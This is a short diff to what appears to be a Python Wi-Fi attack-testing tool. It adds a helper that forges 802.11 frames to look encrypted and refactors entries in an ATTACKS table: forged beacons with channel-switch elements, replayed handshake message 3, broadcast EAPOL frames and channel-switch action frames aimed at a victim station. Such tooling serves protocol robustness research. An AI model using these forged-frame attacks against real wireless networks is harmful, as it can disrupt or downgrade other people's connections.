@@ -140,6 +140,11 @@ def beacon(make):
     return lambda s: [make(*s.beacon())]
 
 
+def says_encrypted(frame):
+    """With the Protected flag, and key id 1 where a security header would have it."""
+    return frame[:1] + bytes([frame[1] | PROTECTED]) + frame[2:24] + b'\0\0\0\x60' + frame[28:]
+
+
 def to_victim(frame, scene):
     return frame[:4] + scene.station + frame[10:]
 
@@ -258,9 +263,8 @@ ATTACKS = {
     'EAPOL for everybody, to the access point': ('access point', lambda s: [
         s.data(msdu(b'\2\1\0\0' + MARK, 0x888e), to=ALL)]),
     'message 3 replayed': ('station', lambda s: [s.message_3]),
-    'beacon says encrypted, channel switch': ('station', lambda s: [
-        frame[:1] + bytes([frame[1] | PROTECTED]) + frame[2:] + CHANNEL_SWITCH
-        for frame, _ in [s.beacon()]]),
+    'beacon says encrypted, channel switch': ('station', beacon(lambda b, _: says_encrypted(
+        b + CHANNEL_SWITCH))),
     'extended channel switch in a Public Action frame': ('station', lambda s: [
         s.management(ACTION, bytes([4, 4, 1, 81, 6, 1]), to=ALL)]),
 }
